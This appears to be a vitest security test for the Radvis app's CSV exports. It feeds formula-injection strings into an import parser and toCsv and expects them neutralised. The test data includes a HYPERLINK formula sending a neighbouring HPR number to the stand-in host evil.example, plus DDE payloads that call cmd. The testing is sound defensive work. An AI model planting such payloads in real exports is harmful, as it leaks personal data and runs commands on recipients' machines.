// Outside tester (breakit22): what a spreadsheet does with the CSV files Radvis exports
// (http/csv.ts sendCsv → shared/csv.ts toCsv). Free text that users or imports put into Radvis
// reaches these files: learning-goal titles from the goal CSV import (POST /api/training/goals/import,
// a network editor or admin) go into every LIS's training record export (training/service.ts
// recordCsvRows: goal_title, assessment_plan, planned_place …), and names and texts into the
// analytics and capacity exports.
import { describe, expect, it } from 'vitest';
import { CSV_DIALECTS, toCsv } from '../../shared/csv.ts';
import { parseLearningGoalCsv } from '../training/goals.ts';

describe('CSV formula injection (OWASP "CSV Injection")', () => {
  // OWASP, CSV Injection: "CSV Injection … occurs when websites embed untrusted input inside CSV
  // files. When a spreadsheet program such as Microsoft Excel or LibreOffice Calc is used to open a
  // CSV, any cells starting with '=' will be interpreted by the software as a formula." Its
  // mitigation: cells must not begin with = + - @ Tab (0x09) or Carriage return (0x0D); prefix such a
  // text cell with a single quote (and quote the cell).
  // Expected: a text cell that starts with =, +, @, a tab or a carriage return reaches the file
  // neutralized (e.g. '=HYPERLINK(…) inside quotes), so opening the export in Excel/LibreOffice runs
  // nothing. (Numbers are typed and written by toCsv itself; a negative number stays a number.)
  // Actual: written as is — `=HYPERLINK("https://evil.example/?"&A2,"Se kilde")` in a goal title is a
  // live formula (and a data-exfiltration link carrying the neighbouring cell, the LIS's HPR number)
  // in the training record CSV a supervisor downloads.
  it('a goal title imported as a formula is accepted, and toCsv writes it as a live formula', () => {
    const title = '=HYPERLINK("https://evil.example/?"&A2,"Se kilde")';
    const parsed = parseLearningGoalCsv(`specialty,number,title\nradiologi,12,"${title.replaceAll('"', '""')}"\n`);
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows[0]?.title).toBe(title);
    for (const dialect of [CSV_DIALECTS.nb, CSV_DIALECTS.en]) {
      for (const evil of [title, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1']) {
        const out = toCsv(['hpr_number', 'goal_title'], [{ hpr_number: '1234567', goal_title: evil }], dialect);
        const cell = out
          .replace(/^\uFEFF/, '')
          .split('\r\n')[1]!
          .split(dialect.separator)
          .slice(1)
          .join(dialect.separator);
        // The cell as a spreadsheet reads it (outer quotes and doubled quotes undone).
        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect({ evil, startsAsFormula: /^[=+@\t\r-]/.test(value) }).toEqual({ evil, startsAsFormula: false });
      }
    }
  });
});
